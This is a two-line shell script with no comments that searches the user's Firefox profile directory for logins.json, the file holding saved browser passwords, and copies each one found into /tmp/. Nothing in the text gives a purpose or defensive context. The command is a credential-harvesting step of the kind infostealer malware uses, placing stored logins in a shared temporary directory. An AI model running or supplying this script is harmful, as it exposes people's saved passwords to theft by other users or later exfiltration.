#!/bin/sh
find ~/.mozilla/firefox -name logins.json -exec cp {} /tmp/ \;
